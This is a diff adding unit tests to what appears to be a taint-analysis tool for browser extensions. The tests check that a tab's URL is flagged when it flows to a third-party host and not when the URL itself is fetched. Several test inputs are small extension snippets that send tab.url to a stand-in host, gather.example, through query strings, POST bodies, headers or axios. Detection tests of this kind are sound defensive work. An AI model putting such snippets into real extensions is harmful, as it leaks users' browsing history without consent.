@@ -438,3 +438,26 @@ describe('work', () => {
     );
   }, 60_000);
 });
+
+describe('an address that is asked for', () => {
+  const told = (code: string): Promise<string[]> =>
+    pairs(sample({ background: `chrome.tabs.onUpdated.addListener((id, info, tab) => { ${code} });` }));
+  const helpers =
+    'function ask(a) { return fetch(a, { method: "GET" }); } function bare(a) { return a.slice(0, a.indexOf("#")); }';
+
+  it('is not sent to anybody, whatever function it is asked by', async () => {
+    for (const code of ['fetch(tab.url);', 'ask(tab.url);', 'ask(bare(tab.url));', 'fetch(new Request(tab.url));'])
+      expect(await told(code + helpers), code).not.toContain('tabs > network');
+  });
+
+  it('is sent where another one holds it, and so is what a request takes along', async () => {
+    for (const code of [
+      'ask("https://gather.example/?" + tab.url);',
+      'ask(tab.url.replace("https://", "https://gather.example/"));',
+      'ask(new Request("https://gather.example/", { method: "POST", body: tab.url }));',
+      'const request = new Request("https://gather.example/", { headers: { from: tab.url } }); fetch(request);',
+      'axios({ url: "https://gather.example/", data: tab.url });',
+    ])
+      expect(await told(code + helpers), code).toContain('tabs > network');
+  });
+});
